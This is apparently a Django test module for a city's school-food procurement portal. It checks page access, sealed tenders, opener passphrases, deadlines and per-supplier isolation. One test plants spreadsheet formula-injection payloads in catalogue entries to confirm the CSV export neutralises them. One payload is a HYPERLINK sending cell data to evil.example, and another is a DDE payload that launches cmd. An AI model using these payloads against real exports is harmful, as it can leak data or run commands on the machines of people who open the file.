"""Local food on the site: who reaches which page, and every BLOCK rule and invariant of the
research note (shared/research/dps-food-procurement.md §2, §3) that a person could try to break
through the web: sealed tenders (INV-1, DPS-51), the invitee snapshot (INV-2, DPS-40), the
10-day minimum (INV-3, DPS-41), the notice's criteria (INV-6, DPS-09), requests taken all the
time (INV-5, DPS-21) and sealed until the initial deadline (DPS-31), decisions with their
checks (DPS-26), lots or a reason (DPS-47), late answers (DPS-42), evidence before the award
(DPS-44), procedural messages kept with their hash (INV-9), and each operator and institution
seeing only its own."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.test import Client
from django.utils.timezone import now

from calendars import KRANJ
from clients import client_for
from zerocity.core.models import AuditLog, Role
from zerocity.core.services import ensure_department, grant_role
from zerocity.food import deadlines, factors
from zerocity.food.models import (
    Application,
    CatalogueItem,
    Delivery,
    Institution,
    Message,
    Operator,
    ProcurementStatus,
    SpecificProcurement,
    Tender,
)
from zerocity.food.services import dps, outcomes, tendering

pytestmark = pytest.mark.django_db
CHECKS = {c: True for c in dps.EXCLUSION_CHECKS}
CRITERIA = [{"id": "price", "type": "price", "name": "Price", "weight": 80},
            {"id": "fresh", "type": "freshness", "name": "Days from harvest", "weight": 20}]
PHRASES = {"opener-a": "first opener phrase", "opener-b": "second opener phrase"}


@pytest.fixture
def food(city):  # type: ignore[no-untyped-def]
    """An active DPS of Testville (published 60 days ago) with three admitted farms, each with
    its own person; two staff openers, an administrator, a citizen and a school buyer."""
    at = now()
    d = dps.create_dps(
        city, "food", "Food for schools", justification="Common purchases.",
        purchases="Vegetables.", operation="Electronic.", equipment="ZeroCity.",
        estimated_value=Decimal("1000000"), valid_from=(at - timedelta(days=60)).date(),
        valid_to=(at + timedelta(days=1000)).date())
    veg = dps.add_category(d, "vegetables", "Vegetables", definition="Fresh vegetables.",
                           selection_criteria=["registered producer"],
                           max_contract_value="20000")
    dps.set_award_criteria(d, CRITERIA)
    sent = at - timedelta(days=60)
    dps.publish(d, sent_at=sent, initial_deadline=deadlines.in_days(KRANJ, sent, 30))
    dps.tick(city, at - timedelta(days=25))
    people, farms = {}, []
    for n in range(3):
        farm = Operator.objects.create(city=city, name=f"Kmetija {n}", registration=f"F{n}")
        person = grant_role(city, f"farmer{n}", Role.CITIZEN).user
        farm.people.add(person)
        application = dps.submit(d, farm, [veg], at=at - timedelta(days=20))
        dps.decide(application, admitted=[veg], checks=CHECKS, at=at - timedelta(days=19))
        farms.append(farm)
        people[f"farmer{n}"] = person
    kitchen = ensure_department(city, "procurement", "Public procurement")
    for name in PHRASES:
        people[name] = grant_role(city, name, Role.STAFF, department=kitchen).user
    people["admin"] = grant_role(city, "boss", Role.ADMIN).user
    people["citizen"] = grant_role(city, "ana", Role.CITIZEN).user
    people["buyer"] = grant_role(city, "cook", Role.CITIZEN).user
    school = Institution.objects.create(city=city, code="os-1", name="OŠ Ena")
    school.buyers.add(people["buyer"])
    d.refresh_from_db()
    return city, d, veg, farms, people, school


def _procurement(d, veg, ref: str, invited_days_ago: float):  # type: ignore[no-untyped-def]
    sp = tendering.create_procurement(d, veg, ref, f"Vegetables {ref}", criteria=["price", "fresh"],
                                      estimated_value="18000", lots=["all"])
    invited = now() - timedelta(days=invited_days_ago)
    return tendering.invite(sp, at=invited, tender_deadline=deadlines.in_days(KRANJ, invited, 10),
                            openers={u: p for u, p in _openers(sp).items()})


def _openers(sp):  # type: ignore[no-untyped-def]
    from django.contrib.auth import get_user_model

    users = get_user_model().objects
    return {users.get(username=name): phrase for name, phrase in PHRASES.items()}


def url(city, path: str) -> str:  # type: ignore[no-untyped-def]
    return f"/en/{city.slug}/food/{path}"


def test_the_documents_and_outcomes_are_public_and_every_other_page_has_its_rule(food):
    """DPS-07: the procurement documents are free to read without an account; the supplier,
    institution and back-office pages are for their people only (404 for the others)."""
    city, d, veg, farms, people, school = food
    sp = _procurement(d, veg, "open", 1)
    anonymous = Client()
    for page in ("", f"dps/{d.reference}/", "ocds.json"):
        response = anonymous.get(url(city, page))
        assert response.status_code == 200, page
    docs = anonymous.get(url(city, f"dps/{d.reference}/")).content.decode()
    assert "Common purchases." in docs and "Price" in docs and "Vegetables" in docs
    assert anonymous.get(url(city, "supplier/")).status_code == 302  # to the login
    staff_pages = ["manage/", f"manage/procurements/{sp.pk}/", "manage/catalogue.csv"]
    for page in staff_pages:
        assert client_for(people["citizen"]).get(url(city, page)).status_code == 404, page
        assert client_for(people["farmer0"]).get(url(city, page)).status_code == 404, page
        assert client_for(people["opener-a"]).get(url(city, page)).status_code == 200, page
    # an operator's pages are its own people's only
    mine = url(city, f"supplier/{farms[0].pk}/procurements/{sp.pk}/")
    assert client_for(people["farmer0"]).get(mine).status_code == 200
    assert client_for(people["farmer1"]).get(mine).status_code == 404
    assert client_for(people["opener-a"]).get(mine).status_code == 404
    # an institution's page is its buyers' only
    assert client_for(people["buyer"]).get(url(city, "institution/")).status_code == 200
    assert client_for(people["citizen"]).get(url(city, "institution/")).status_code == 404


def test_nobody_reads_a_tender_before_its_deadline_whatever_their_role(food):
    """INV-1, DPS-51: before the deadline the back office shows how many tenders came, not who
    sent them nor what they offer; opening is refused to everyone, superusers included, and
    every attempt is in the audit trail; other suppliers see nothing of it."""
    from django.contrib.auth import get_user_model

    city, d, veg, farms, people, school = food
    sp = _procurement(d, veg, "sealed", 1)
    response = client_for(people["farmer0"]).post(
        url(city, f"supplier/{farms[0].pk}/procurements/{sp.pk}/tender/"),
        {"c_price": "12345.67", "c_fresh": "2"})
    assert response.status_code == 302
    tender = Tender.objects.get(procurement=sp)
    assert b"12345.67" not in bytes(tender.ciphertext)
    root = get_user_model().objects.create_superuser("root", "root@example.org", "x")
    for who in (people["opener-a"], people["opener-b"], people["admin"], root):
        page = client_for(who).get(url(city, f"manage/procurements/{sp.pk}/")).content.decode()
        assert "12345.67" not in page and tender.sha256 not in page
        assert "data-tender" not in page and "1 sealed tender received" in page
        client_for(who).post(url(city, f"manage/procurements/{sp.pk}/open/"),
                             {"passphrase": PHRASES.get(who.username, "whatever it is")})
    assert AuditLog.objects.filter(action="food.opening_refused_early").count() == 4
    sp.refresh_from_db()
    assert sp.opened_at is None and Tender.objects.get(pk=tender.pk).content is None
    other = client_for(people["farmer1"]).get(
        url(city, f"supplier/{farms[1].pk}/procurements/{sp.pk}/")).content.decode()
    assert "12345" not in other and tender.sha256 not in other
    with pytest.raises(Exception, match="sealed"):
        tendering.read(tender, user=root, at=now())


def test_tenders_after_the_deadline_are_refused_and_openers_open_together(food):
    """DPS-51: a late tender is refused at the door; after the deadline both openers approve
    on the page, and only then the content shows (each reading audited)."""
    city, d, veg, farms, people, school = food
    sp = _procurement(d, veg, "closed", 15)
    tendering.submit(sp, farms[0], {"price": "15000", "fresh": "1"},
                     at=now() - timedelta(days=14))
    tendering.submit(sp, farms[1], {"price": "16000", "fresh": "2"},
                     at=now() - timedelta(days=13))
    invitation = url(city, f"supplier/{farms[2].pk}/procurements/{sp.pk}/")
    late = client_for(people["farmer2"]).post(
        url(city, f"supplier/{farms[2].pk}/procurements/{sp.pk}/tender/"),
        {"c_price": "1", "c_fresh": "1", "next": invitation}, follow=True)
    assert "deadline for tenders has passed" in late.content.decode()
    assert late.redirect_chain == [(invitation, 302)]  # back to the form's page
    assert not Tender.objects.filter(operator=farms[2]).exists()
    page = url(city, f"manage/procurements/{sp.pk}/")
    client_for(people["opener-a"]).post(url(city, f"manage/procurements/{sp.pk}/open/"),
                                        {"passphrase": "not my phrase at all"})
    assert AuditLog.objects.filter(action="food.opening_wrong_passphrase").exists()
    client_for(people["admin"]).post(url(city, f"manage/procurements/{sp.pk}/open/"),
                                     {"passphrase": "first opener phrase"})
    assert AuditLog.objects.filter(action="food.opening_refused_not_opener").exists()
    client_for(people["opener-a"]).post(url(city, f"manage/procurements/{sp.pk}/open/"),
                                        {"passphrase": PHRASES["opener-a"]})
    assert "15000" not in client_for(people["opener-a"]).get(page).content.decode()
    client_for(people["opener-b"]).post(url(city, f"manage/procurements/{sp.pk}/open/"),
                                        {"passphrase": PHRASES["opener-b"]})
    opened = client_for(people["admin"]).get(page).content.decode()
    assert "15000" in opened and "Kmetija 1" in opened
    assert AuditLog.objects.filter(action="food.tender_read").count() == 2
    # DPS-44: no award without the winner's evidence verified
    refused = client_for(people["admin"]).post(url(city, f"manage/procurements/{sp.pk}/award/"),
                                               {"next": page}, follow=True)
    assert "supporting documents first" in refused.content.decode()
    assert "DPS-44" not in refused.content.decode()
    client_for(people["admin"]).post(url(city, f"manage/procurements/{sp.pk}/award/"),
                                     {"evidence_verified": "on"})
    sp.refresh_from_db()
    assert sp.status == ProcurementStatus.AWARDED and sp.awarded_tender.operator == farms[0]
    result = client_for(people["farmer1"]).get(
        url(city, f"supplier/{farms[1].pk}/procurements/{sp.pk}/")).content.decode()
    assert "ranked 2" in result
    # INV-9: the receipts and the award decision are stored messages with their hash
    for kind in ("tender_receipt", "award_decision"):
        message = Message.objects.filter(dps=d, kind=kind).first()
        assert message is not None and dps.message_intact(message)


def test_only_the_members_at_the_invitation_are_invited(food):
    """INV-2, DPS-40: an operator admitted after the invitation was sent is not invited: the
    invitation is not theirs to see, and a tender from them is refused."""
    city, d, veg, farms, people, school = food
    sp = _procurement(d, veg, "snapshot", 1)
    late = Operator.objects.create(city=city, name="Nova kmetija", registration="N1")
    late.people.add(people["citizen"])
    application = dps.submit(d, late, [veg], at=now())
    dps.decide(application, admitted=[veg], checks=CHECKS, at=now())
    c = client_for(people["citizen"])
    assert c.get(url(city, f"supplier/{late.pk}/procurements/{sp.pk}/")).status_code == 404
    assert c.post(url(city, f"supplier/{late.pk}/procurements/{sp.pk}/tender/"),
                  {"c_price": "1", "c_fresh": "1"}).status_code == 404
    assert not Tender.objects.filter(operator=late).exists()
    # and nobody tenders in another operator's name
    assert c.post(url(city, f"supplier/{farms[0].pk}/procurements/{sp.pk}/tender/"),
                  {"c_price": "1", "c_fresh": "1"}).status_code == 404


def test_the_back_office_keeps_the_rules_of_a_procurement(food):
    """INV-3 (at least 10 days), INV-6 (the notice's criteria and weights: the form cannot
    change them), DPS-47 (lots or a reason), DPS-51 (two different openers)."""
    city, d, veg, farms, people, school = food
    c = client_for(people["opener-a"])
    no_lots = c.post(url(city, "manage/procurements/new/"), {
        "dps": d.pk, "category": veg.pk, "reference": "q1", "title": "Q1",
        "estimated_value": "10000", "next": url(city, "manage/")}, follow=True)
    assert "say why it is not divided" in no_lots.content.decode()
    assert "DPS-47" not in no_lots.content.decode()  # the rule is in the log, not the page
    c.post(url(city, "manage/procurements/new/"), {
        "dps": d.pk, "category": veg.pk, "reference": "q1", "title": "Q1",
        "estimated_value": "10000", "no_lots_reason": "One kitchen.",
        "criteria": ["price"], "weight_price": "100"})
    sp = SpecificProcurement.objects.get(reference="q1")
    assert sp.criteria == d.award_criteria  # the notice's, whatever the form sent
    nine_days = (now() + timedelta(days=9)).astimezone(KRANJ.zone).strftime("%Y-%m-%dT%H:%M")
    page = url(city, f"manage/procurements/{sp.pk}/")  # the forms' page, their "next"
    short = c.post(url(city, f"manage/procurements/{sp.pk}/invite/"), {
        "deadline": nine_days, "passphrase": PHRASES["opener-a"],
        "second_opener": "opener-b", "second_passphrase": PHRASES["opener-b"],
        "next": page}, follow=True)
    assert "Suppliers get at least 10 days to tender" in short.content.decode()
    alone = c.post(url(city, f"manage/procurements/{sp.pk}/invite/"), {
        "deadline": "2099-01-01T12:00", "passphrase": PHRASES["opener-a"],
        "second_opener": "ana", "second_passphrase": PHRASES["opener-b"], "next": page},
        follow=True)
    assert "second opener" in alone.content.decode()  # a citizen is not a second opener
    sp.refresh_from_db()
    assert sp.status == ProcurementStatus.DRAFT
    c.post(url(city, f"manage/procurements/{sp.pk}/invite/"), {
        "deadline": "2099-01-01T12:00", "passphrase": PHRASES["opener-a"],
        "second_opener": "opener-b", "second_passphrase": PHRASES["opener-b"]})
    sp.refresh_from_db()
    assert sp.status == ProcurementStatus.TENDERING
    assert set(sp.invitees.all()) == set(farms)


def test_requests_are_taken_all_the_time_and_decided_with_their_checks(food):
    """INV-5, DPS-21: a new operator registers and applies through the portal at any time
    while the DPS is valid; DPS-26: no admission without every check recorded; the operator
    sees the decision."""
    city, d, veg, farms, people, school = food
    c = client_for(people["citizen"])
    c.post(url(city, "supplier/register/"), {"name": "Sadjarstvo Novak",
                                             "registration": "SN-77"})
    op = Operator.objects.get(registration="SN-77")
    assert list(op.people.all()) == [people["citizen"]]
    c.post(url(city, f"supplier/{op.pk}/apply/"), {"dps": d.pk, "categories": [veg.pk]})
    application = Application.objects.get(operator=op)
    assert application.status == "under_evaluation"
    staff = client_for(people["opener-a"])
    missing = staff.post(url(city, f"manage/applications/{application.pk}/decide/"), {
        "admitted": [veg.pk], "espd_received": "on", "next": url(city, "manage/")},
        follow=True)
    assert "an operator is admitted only when this check is passed" in missing.content.decode()
    assert "No ground for exclusion applies" in missing.content.decode()  # named, no key
    staff.post(url(city, f"manage/applications/{application.pk}/decide/"), {
        "admitted": [veg.pk], **{k: "on" for k in CHECKS}})
    application.refresh_from_db()
    assert application.status == "admitted" and not application.late
    assert "admitted" in c.get(url(city, "supplier/")).content.decode().lower()
    # someone else's operator: not theirs to act for
    assert client_for(people["farmer1"]).post(
        url(city, f"supplier/{op.pk}/apply/"), {"dps": d.pk}).status_code == 404


def test_initial_requests_stay_sealed_on_the_back_office(city):
    """DPS-31: a request received before the initial deadline cannot be decided (nor its
    content examined) on the page until the deadline."""
    at = now()
    d = dps.create_dps(city, "new", "New DPS", justification="j", purchases="p",
                       operation="o", equipment="e", estimated_value=Decimal("100000"),
                       valid_from=at.date(), valid_to=(at + timedelta(days=900)).date())
    veg = dps.add_category(d, "veg", "Vegetables", definition="d", selection_criteria=["s"],
                           max_contract_value="20000")
    dps.set_award_criteria(d, CRITERIA)
    dps.publish(d, sent_at=at - timedelta(hours=1),
                initial_deadline=deadlines.in_days(KRANJ, at, 31))
    farm = Operator.objects.create(city=city, name="Early farm", registration="E1")
    application = dps.submit(d, farm, [veg], at=at)
    staff = grant_role(city, "clerk", Role.STAFF,
                       department=ensure_department(city, "procurement", "Procurement")).user
    page = client_for(staff).get(url(city, "manage/")).content.decode()
    assert "examined after the initial deadline" in page
    refused = client_for(staff).post(url(city, f"manage/applications/{application.pk}/decide/"),
                                     {"admitted": [veg.pk], **{k: "on" for k in CHECKS},
                                      "next": url(city, "manage/")}, follow=True)
    assert "examined only after it" in refused.content.decode()
    application.refresh_from_db()
    assert application.status == "sealed"


def test_a_late_answer_on_the_page_needs_the_deadline_extended(food):
    """DPS-42: questions go from the portal; an answer less than 6 days before the deadline
    is refused unless the deadline moves; the answer reaches every invitee without the
    asker's name."""
    city, d, veg, farms, people, school = food
    # invited 9 days ago: the 10 days' deadline ends tomorrow, or up to 4 days later when it
    # falls on a weekend or a holiday, never 6 days away (invited 6 days ago, a deadline moved
    # past a weekend left exactly 6 days on some days of the week, and the answer was in time)
    sp = _procurement(d, veg, "questions", 9)
    client_for(people["farmer0"]).post(
        url(city, f"supplier/{farms[0].pk}/procurements/{sp.pk}/ask/"),
        {"question": "Are organic carrots welcome?"})
    q = sp.clarifications.get()
    staff = client_for(people["opener-a"])
    refused = staff.post(url(city, f"manage/procurements/{sp.pk}/questions/{q.pk}/answer/"),
                         {"answer": "Yes.", "next": url(city, f"manage/procurements/{sp.pk}/")},
                         follow=True)
    assert "needs the deadline extended" in refused.content.decode()
    later = (now() + timedelta(days=11)).astimezone(KRANJ.zone).strftime("%Y-%m-%dT%H:%M")
    answered = staff.post(url(city, f"manage/procurements/{sp.pk}/questions/{q.pk}/answer/"),
                          {"answer": "Yes.", "extend_to": later}, follow=True)
    assert "sent to every invited supplier" in answered.content.decode(), [
        str(m) for m in answered.context["messages"]]
    sp.refresh_from_db()
    assert sp.tender_deadline > now() + timedelta(days=7)
    seen = client_for(people["farmer2"]).get(
        url(city, f"supplier/{farms[2].pk}/procurements/{sp.pk}/")).content.decode()
    assert "Are organic carrots welcome?" in seen and "Kmetija 0" not in seen


def test_each_supplier_keeps_only_its_own_catalogue(food):
    city, d, veg, farms, people, school = food
    c = client_for(people["farmer0"])
    c.post(url(city, f"supplier/{farms[0].pk}/catalogue/"), {
        "product": "Korenje", "food_group": "roots", "price": "1,20", "organic": "on",
        "production_region": "SI042", "production_country": "SI", "intermediaries": "0",
        "delivery_days": ["1", "4"]})
    item = CatalogueItem.objects.get(operator=farms[0])
    assert item.organic and item.delivery_days == [1, 4] and item.price == Decimal("1.20")
    bad = c.post(url(city, f"supplier/{farms[0].pk}/catalogue/"), {
        "product": "Sladkarije", "food_group": "sweets", "price": "1",
        "next": url(city, "supplier/")}, follow=True)
    assert "food_group" in bad.content.decode()
    assert client_for(people["farmer1"]).post(
        url(city, f"supplier/{farms[0].pk}/catalogue/{item.pk}/retire/")).status_code == 404
    assert CatalogueItem.objects.get(pk=item.pk).active
    table = client_for(people["opener-a"]).get(url(city, "manage/catalogue.csv"))
    assert table["Content-Type"].startswith("text/csv")
    assert "Kmetija 0,Korenje,roots,kg,1.20" in table.content.decode()


def test_an_institution_records_its_own_deliveries_and_sees_its_outcomes(food):
    city, d, veg, farms, people, school = food
    factors.ensure()
    sp = _procurement(d, veg, "delivered", 15)
    tendering.submit(sp, farms[0], {"price": "15000", "fresh": "1"},
                     at=now() - timedelta(days=14))
    for user, phrase in _openers(sp).items():
        sp = tendering.approve_opening(sp, user, phrase, at=now())
    sp = tendering.award(sp, at=now(), evidence_verified=True)
    (contract,) = outcomes.sign_contracts(sp, {school: "12000"}, at=now())
    other = Institution.objects.create(city=city, code="os-2", name="OŠ Dva")
    (other_contract,) = outcomes.sign_contracts(
        tendering.award(_award_ready(d, veg, farms), at=now(), evidence_verified=True),
        {other: "5000"}, at=now())
    c = client_for(people["buyer"])
    today = now().astimezone(KRANJ.zone).date().isoformat()
    c.post(url(city, "institution/deliveries/"), {
        "contract": contract.pk, "delivered_on": today, "vehicle": "van-diesel",
        "distance_km": "15", "dedicated": "on", "rows": "1", "product_0": "Korenje",
        "group_0": "roots",
        "kg_0": "40", "value_0": "100", "organic_0": "on", "region_0": "si042",
        "country_0": "SI"})
    delivery = Delivery.objects.get(contract=contract)
    assert outcomes.transport(delivery).kg_co2e == Decimal("7.5")  # research note §7.2
    line = delivery.lines.get()
    assert line.organic and line.production_region == "SI042"
    page = c.get(url(city, "institution/")).content.decode()
    assert "OŠ Ena" in page and "OŠ Dva" not in page
    assert c.post(url(city, "institution/deliveries/"), {
        "contract": other_contract.pk, "delivered_on": today, "vehicle": "van-diesel",
        "distance_km": "1", "rows": "1", "product_0": "x", "group_0": "roots", "kg_0": "1",
        "value_0": "1"}).status_code == 404
    assert not Delivery.objects.filter(contract=other_contract).exists()
    public = Client().get(url(city, f"?year={date.today().year}")).content.decode()
    assert 'data-institution="os-1"' in public
    assert 'data-figure="organic">100.0<' in public  # the one delivery was organic


def _award_ready(d, veg, farms):  # type: ignore[no-untyped-def]
    sp = _procurement(d, veg, "other", 15)
    tendering.submit(sp, farms[1], {"price": "5000", "fresh": "1"},
                     at=now() - timedelta(days=14))
    for user, phrase in _openers(sp).items():
        sp = tendering.approve_opening(sp, user, phrase, at=now())
    return sp


def test_a_supplier_cannot_plant_a_spreadsheet_formula_in_the_catalogue_export(food):
    city, d, veg, farms, people, school = food
    planted = ['=HYPERLINK("http://evil.example/?"&A1;"Click")', "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)"]  # (names are stripped: tabs are tested below)
    c = client_for(people["farmer0"])
    for n, product in enumerate(planted):
        c.post(url(city, f"supplier/{farms[0].pk}/catalogue/"), {
            "product": product, "food_group": "roots", "price": "1,20",
            "production_country": "SI", "intermediaries": "0", "delivery_days": ["1"],
            "production_place": f"={n}+{n}"})
    assert CatalogueItem.objects.filter(operator=farms[0]).count() == len(planted)
    table = client_for(people["opener-a"]).get(url(city, "manage/catalogue.csv"))
    rows = list(csv.DictReader(io.StringIO(table.content.decode())))
    products = {r["product"] for r in rows}
    assert products == {"'" + p for p in planted}
    assert all(r["production_place"].startswith("'=") for r in rows)
    # a cell a spreadsheet would read as a formula is never written as one
    assert not [cell for r in rows for cell in r.values() if cell and cell[0] in "=+-@\t\r"]


def test_negative_figures_stay_numbers_and_only_formula_text_is_neutralised():
    from zerocity.core.spreadsheet import safe_cell

    assert [safe_cell(v) for v in ["-12.5", "+3", "-1e-05", -4, "=1+1", "-x", "@a", "plain",
                                   "\t1", "", "-", "+", "-+1"]] == [
        "-12.5", "+3", "-1e-05", -4, "'=1+1", "'-x", "'@a", "plain", "'\t1", "", "-", "+",
        "'-+1"]
